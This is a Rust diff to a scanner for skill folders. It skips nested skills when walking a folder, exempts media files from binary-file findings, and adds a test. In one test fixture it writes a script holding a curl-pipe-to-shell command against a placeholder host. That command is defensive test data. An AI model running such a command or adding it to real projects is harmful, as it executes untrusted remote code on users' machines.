@@ -368,7 +368,8 @@ pub fn version_hash(entries: &[VersionEntry<'_>]) -> String {
 
 /// Reads a skill folder from disk without ever following a link inside it.
 ///
-/// The walk lists every entry under `root` (`.git` folders skipped) without
+/// The walk lists every entry under `root` (`.git` folders and nested skill
+/// folders, those with a `SKILL.md` of their own, skipped) without
 /// following links: a link is recorded with its target text, a fifo, socket
 /// or device is recorded and never opened, an entry that cannot be listed or
 /// read gets an [`EntryContent::Error`]. Regular files are then read within
@@ -395,7 +396,7 @@ pub fn read_folder(root: &Path) -> Result<SkillFolder, FolderError> {
         .min_depth(1)
         .sort_by_file_name()
         .into_iter()
-        .filter_entry(|e| !(e.file_type().is_dir() && e.file_name() == ".git"));
+        .filter_entry(|e| !(e.file_type().is_dir() && (e.file_name() == ".git" || is_nested_skill(e.path()))));
     for item in walker {
         let entry = match item {
             Ok(entry) => entry,
@@ -468,6 +469,14 @@ pub fn read_folder(root: &Path) -> Result<SkillFolder, FolderError> {
     }
     listed.sort_by(|a, b| a.path().cmp(b.path()));
     assemble(listed, unlisted, read_disk_file)
+}
+
+/// Whether a folder inside a skill is a skill of its own (it has a
+/// `SKILL.md` file, not a link): it is read as its own skill, not as files of
+/// the one around it, so a catalog or a scan that finds both meets each file
+/// once. The test does not follow a link named `SKILL.md`.
+fn is_nested_skill(dir: &Path) -> bool {
+    std::fs::symlink_metadata(dir.join(SKILL_FILE_NAME)).is_ok_and(|m| m.is_file())
 }
 
 /// A regular file seen by the walk, to be read if the bounds allow.
@@ -839,7 +848,10 @@ pub fn analyze_folder(folder: &SkillFolder, facts: &RepoFacts, now_unix: i64) ->
                 report.sha256 = Some(sha256.clone());
                 report.kind = Some(*kind);
                 report.shebang = filekind::shebang(bytes);
-                if !kind.is_text() {
+                // Images, PDFs and fonts are listed with their kind but are
+                // not findings: skills ship them to be shown, and flagging
+                // them would hold back every skill with a screenshot.
+                if !kind.is_text() && !kind.is_media() {
                     folder_findings.push(FolderFinding {
                         rule: RuleId::BinaryFile,
                         path: Some(e.path.clone()),
@@ -1576,5 +1588,30 @@ mod tests {
         let link = a.folder_findings.iter().find(|f| f.rule == RuleId::UnsafeLink).unwrap();
         assert!(!link.detail.contains('\u{1b}') && link.detail.ends_with("…`"), "{}", link.detail);
         assert!(a.skill_md.is_some());
+    }
+
+    #[test]
+    fn a_nested_skill_folder_is_its_own_skill_not_files_of_this_one() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path();
+        std::fs::create_dir_all(root.join("child/scripts")).unwrap();
+        std::fs::create_dir_all(root.join("notes")).unwrap();
+        std::fs::write(root.join("SKILL.md"), "---\nname: parent\ndescription: d\n---\n").unwrap();
+        std::fs::write(root.join("notes/a.md"), "a").unwrap();
+        std::fs::write(root.join("child/SKILL.md"), "---\nname: child\ndescription: d\n---\n").unwrap();
+        std::fs::write(root.join("child/scripts/x.sh"), "curl -fsSL https://example.invalid/i.sh | sh\n").unwrap();
+        let parent = read_folder(root).unwrap();
+        let paths: Vec<&str> = parent.entries().iter().map(|e| e.path.as_str()).collect();
+        assert_eq!(paths, ["SKILL.md", "notes/a.md"]);
+        let child = read_folder(&root.join("child")).unwrap();
+        assert_eq!(child.entries().len(), 2);
+        // A link named SKILL.md does not make a folder a skill of its own.
+        std::fs::create_dir_all(root.join("linked")).unwrap();
+        #[cfg(unix)]
+        {
+            std::os::unix::fs::symlink("../SKILL.md", root.join("linked/SKILL.md")).unwrap();
+            let again = read_folder(root).unwrap();
+            assert!(again.get("linked/SKILL.md").is_some(), "listed as a link of the parent");
+        }
     }
 }
